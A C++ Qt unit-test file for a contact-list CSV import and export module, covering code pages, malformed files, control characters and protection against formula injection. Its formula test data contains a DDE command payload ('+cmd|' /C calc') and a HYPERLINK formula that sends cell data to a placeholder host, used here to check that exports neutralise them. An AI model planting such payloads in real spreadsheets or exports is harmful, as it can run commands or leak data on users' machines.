#include "support/ExchangeBytes.h"

#include "core/common/Cp1250.h"
#include "core/contacts/exchange/ContactCsv.h"

#include <QtTest>

using namespace Qt::StringLiterals;

class TestContactCsv : public QObject
{
    Q_OBJECT
private slots:
    void read_files_data();
    void read_files();
    void read_malformed_data();
    void read_malformed();
    void formulaCells_markedAndReadBack_data();
    void formulaCells_markedAndReadBack();
    void write_leavesOutControlCharacters();
};

void TestContactCsv::read_files_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("name");
    QTest::addColumn<QString>("street");
    QTest::addColumn<QString>("notes");
    QTest::addColumn<int>("count");

    QTest::newRow("spreadsheet in code page 1250, semicolons")
        << Cp1250::encode(u"Nazwa;DomUlica;TelDom\r\nŚliwa Jerzy;\"ul. Ogrodowa 1; m. 2\";22 111\r\n"
                          "Żuk Ola;;\r\n"_s)
        << u"Śliwa Jerzy"_s << u"ul. Ogrodowa 1; m. 2"_s << QString() << 2;
    QTest::newRow("UTF-8 without BOM, LF, quoted line break")
        << u"nazwa,Notatki,Kolumna obca\n\"Łoś, Adam\",\"raz\ndwa\",x\n"_s.toUtf8() << u"Łoś, Adam"_s << QString()
        << u"raz\ndwa"_s << 1;
    QTest::newRow("UTF-8 with BOM, short rows, empty lines and cells")
        << QByteArray("\xEF\xBB\xBF"
                      "DomUlica,Nazwa,Email\r\n\r\nul. Krótka,Kęs Jan\r\n,,\r\n")
        << u"Kęs Jan"_s << u"ul. Krótka"_s << QString() << 1;
    QTest::newRow("mail program's columns, ISO date")
        << QByteArray("First Name,Middle Name,Last Name,Home Street,Birthday,Notes\r\nJan,Maria,Rokita,ul. Polna 2,"
                      "1980-03-08,\"a, b\"\r\n")
        << u"Rokita Jan Maria"_s << u"ul. Polna 2"_s << u"a, b"_s << 1;
    QTest::newRow("header only") << QByteArray("Nazwa,Email\r\n") << QString() << QString() << QString() << 0;
}

void TestContactCsv::read_files()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, name);
    QFETCH(QString, street);
    QFETCH(QString, notes);
    QFETCH(int, count);
    QList<ExchangeContact> contacts;
    ExchangeError error;
    QVERIFY2(ContactCsv::read(bytes, &contacts, &error), qPrintable(error.text()));
    QCOMPARE(contacts.size(), count);
    if (count > 0) {
        QCOMPARE(contacts[0].contact.Nazwa, name);
        QCOMPARE(contacts[0].contact.DomUlica, street);
        QCOMPARE(contacts[0].notes, notes);
    }
}

void TestContactCsv::read_malformed_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<int>("line");
    QTest::newRow("quote never closed") << QByteArray("Nazwa,Notatki\r\nA,ok\r\nB,\"raz\r\ndwa\r\n") << 3;
    QTest::newRow("text after a closing quote") << QByteArray("Nazwa,Notatki\nA,\"x\ny\"z,\n") << 3;
    QTest::newRow("more fields than the header") << QByteArray("Nazwa;Email\nA;a@b\nB;b@c;nadmiar\n") << 3;
    QTest::newRow("no field names") << QByteArray("Kolor,Rozmiar\nczerwony,L\n") << 1;
}

void TestContactCsv::read_malformed()
{
    QFETCH(QByteArray, bytes);
    QFETCH(int, line);
    QList<ExchangeContact> contacts;
    ExchangeError error;
    QVERIFY(!ContactCsv::read(bytes, &contacts, &error));
    QCOMPARE(error.line, line);
    QVERIFY(contacts.isEmpty());
}

void TestContactCsv::formulaCells_markedAndReadBack_data()
{
    QTest::addColumn<QString>("value"); // the e-mail field
    QTest::addColumn<QString>("cell");  // as the file carries it between its commas
    QTest::newRow("arithmetic") << u"=2*3"_s << u"'=2*3"_s;
    QTest::newRow("link built from other cells") << u"=HYPERLINK(\"http://x.invalid/\"&A1,\"klik\")"_s
                                                 << u"\"'=HYPERLINK(\"\"http://x.invalid/\"\"&A1,\"\"klik\"\")\""_s;
    QTest::newRow("at sign") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
    QTest::newRow("plus before a command") << u"+cmd|' /C calc'!A0"_s << u"'+cmd|' /C calc'!A0"_s;
    QTest::newRow("minus before a sum") << u"-1+1"_s << u"'-1+1"_s;
    QTest::newRow("tab first") << u"\t=1"_s << u"'\t=1"_s;
    QTest::newRow("CR first") << u"\r=1"_s << u"\"'\r=1\""_s;
    QTest::newRow("telephone number") << u"+48 (22) 555-12-34"_s << u"+48 (22) 555-12-34"_s;
    QTest::newRow("negative number") << u"-12.5"_s << u"-12.5"_s;
    QTest::newRow("hyphen alone") << u"-"_s << u"-"_s;
    QTest::newRow("plain address") << u"ala@example.pl"_s << u"ala@example.pl"_s;
    QTest::newRow("apostrophe of the user's own") << u"'cytat"_s << u"'cytat"_s;
    QTest::newRow("apostrophe before a formula") << u"'=1"_s << u"''=1"_s;
}

void TestContactCsv::formulaCells_markedAndReadBack()
{
    QFETCH(QString, value);
    QFETCH(QString, cell);
    ExchangeContact item;
    item.contact.Nazwa = u"Kowal Jan"_s;
    item.contact.Email = value;
    item.notes = value;
    QByteArray out;
    QVERIFY(ContactCsv::write({item}, &out));
    const QString text = QString::fromUtf8(out);
    QVERIFY2(text.contains(u',' + cell + u','), qPrintable(text));
    QVERIFY2(text.endsWith(u',' + cell + u"\r\n"_s), qPrintable(text)); // the notes, last
    QList<ExchangeContact> back;
    ExchangeError error;
    QVERIFY2(ContactCsv::read(out, &back, &error), qPrintable(error.text()));
    QCOMPARE(back.size(), 1);
    QCOMPARE(back[0].contact.Email, value);
    QCOMPARE(back[0].notes, value);
}

void TestContactCsv::write_leavesOutControlCharacters()
{
    ExchangeContact item;
    item.contact.Nazwa = u"Nowak\x01 Jan"_s;
    item.contact.Email = u"jan@example.pl\x7f"_s;
    item.contact.Firma = u"A\x1b, B"_s;
    item.notes = u"raz\x0b\tdwa\r\ntrzy\x1f"_s;
    QByteArray bytes;
    QVERIFY(ContactCsv::write({item}, &bytes));
    QCOMPARE(ExchangeBytes::strayControls(bytes, true), QByteArray());
    const QList<QByteArray> rows = bytes.split('\n');
    QVERIFY(rows.size() >= 2);
    QVERIFY2(rows[1].startsWith(",,,,,,jan@example.pl,"), rows[1].constData());
    QVERIFY2(bytes.contains(",Nowak Jan,"), bytes.constData());
    QVERIFY2(bytes.contains(",\"A, B\","), bytes.constData());
    QVERIFY2(bytes.endsWith(",\"raz\tdwa\r\ntrzy\"\r\n"), bytes.constData());
}

QTEST_GUILESS_MAIN(TestContactCsv)
#include "tst_contactcsv.moc"
